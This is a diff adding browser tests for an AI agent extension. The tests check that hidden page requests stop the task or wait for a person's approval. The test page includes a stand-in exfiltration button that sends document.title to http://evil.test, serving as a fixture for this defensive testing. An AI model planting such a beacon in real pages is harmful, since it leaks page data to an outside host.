@@ -1,0 +1,100 @@
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import type { Settings } from '../../extension/memory/settings.ts';
+import { askAndAnswer } from '../support/browser/start-talks.ts';
+import { type Scene, startWaymark } from '../support/browser/start-waymark.ts';
+import { press, type ScriptedServer, say, startScriptedServer } from '../support/servers/scripted-server.ts';
+
+const waymark = startWaymark();
+let server: ScriptedServer;
+/** What arrived at the sites, such as `POST shop.test/api/place-order`. */
+const arrived: string[] = [];
+
+const PAGE = `<!doctype html><title>Shop</title><h1>Shop</h1>
+<button onclick="fetch('/api/place-order', { method: 'POST', body: 'mug' })">More</button>
+<button onclick="setTimeout(() => fetch('/api/place-order', { method: 'POST' }), 300)">Later</button>
+<button onclick="fetch('/api/views', { method: 'POST' })">Show</button>
+<button onclick="new Image().src = 'http://evil.test/?' + document.title">Picture</button>
+<button onclick="document.querySelector('form').submit()">Tab</button>
+<button onclick="document.forms[1].submit()">Plain</button><form method="post" action="/send-it" target="elsewhere"><input type="hidden" name="a" value="b"></form>
+<form method="post" action="/plain"></form>`;
+
+beforeAll(async () => {
+  server = await startScriptedServer();
+  const { context } = waymark.launched();
+  for (const host of ['shop.test', 'evil.test'])
+    await context.route(`http://${host}/**`, async (route) => {
+      const { pathname, hostname } = new URL(route.request().url());
+      if (pathname !== '/' || hostname !== 'shop.test')
+        arrived.push(`${route.request().method()} ${hostname}${pathname}`);
+      await route.fulfill({ contentType: 'text/html', body: pathname === '/' ? PAGE : 'ok' });
+    });
+});
+afterAll(() => server.close());
+
+async function scene(button: string, strict: Settings['strict']['where'] = 'nowhere'): Promise<Scene> {
+  arrived.length = 0;
+  server.answer(press(button), press(button), say('Done.'));
+  const model = { policy: 'model', baseUrl: server.baseUrl, model: 'tiny', key: '' } as const;
+  return await waymark.scene('http://shop.test/', {
+    approval: 'ask',
+    settings: { ...model, strict: { where: strict, sites: [] } },
+  });
+}
+
+test.each(['More', 'Later', 'Tab'])('the task stops when “%s” sends what it does not say', async (button) => {
+  const shown = await scene(button);
+  const last = await shown.ask('Show me more');
+  const path = button === 'Tab' ? 'send-it' : 'api/place-order';
+  expect(last).toContain(`POST http://shop.test/${path}`);
+  expect(arrived[0]).toBe(`POST shop.test/${path}`);
+  expect((await shown.turns()).at(-2)).toMatchObject({ type: 'browser' });
+});
+
+test('a request that names no deed is shown with its step, and stops nothing', async () => {
+  const shown = await scene('Show');
+  server.answer(press('Show'), say('Done.'));
+  expect(await shown.ask('Show it')).toBe('Done.');
+  const [, step] = await shown.turns();
+  expect(step).toMatchObject({
+    effects: [{ method: 'POST', origin: 'http://shop.test', path: '/api/views', size: 0 }],
+  });
+  await shown.panel.locator('.step').first().locator('summary').click();
+  expect(await shown.panel.locator('.details').first().innerText()).toContain('POST http://shop.test/api/views');
+});
+
+test.each([
+  ['More', 'POST shop.test/api/place-order'],
+  ['Picture', 'GET evil.test/'],
+  ['Tab', 'POST shop.test/send-it'],
+])('strict: what “%s” sends does not arrive before a person allows it', async (button, sent) => {
+  const denied = await scene(button, 'everywhere');
+  server.answer(press(button), say('Done.'));
+  const [question] = await askAndAnswer(denied, 'Show me more', [false]);
+  expect(question).toContain(sent.replace(' ', ' http://'));
+  expect(arrived).toEqual([]);
+
+  const allowed = await scene(button, 'everywhere');
+  server.answer(press(button), say('Done.'));
+  await askAndAnswer(allowed, 'Show me more', [true]);
+  expect(arrived).toEqual([sent]);
+  const rules = () => allowed.panel.evaluate(async () => (await chrome.declarativeNetRequest.getSessionRules()).length);
+  expect(await rules()).toBe(0);
+});
+
+test('strict: a form that leads away is sent once it is allowed, from the page as it was', async () => {
+  const shown = await scene('Plain', 'everywhere');
+  server.answer(press('Plain'), press('Plain'), say('Done.'));
+  await askAndAnswer(shown, 'Show me more', [true]);
+  expect(arrived, await shown.story()).toEqual(['POST shop.test/plain']);
+});
+
+test('strict: rules do not outlive the panel', async () => {
+  const shown = await scene('More', 'everywhere');
+  server.answer(press('More'), say('Done.'));
+  await shown.say('Show me more');
+  const worker = await waymark.launched().worker();
+  const rules = () => worker.evaluate(async () => (await chrome.declarativeNetRequest.getSessionRules()).length);
+  await expect.poll(rules, { interval: 20 }).toBeGreaterThan(0);
+  await shown.panel.close();
+  await expect.poll(rules).toBe(0);
+});
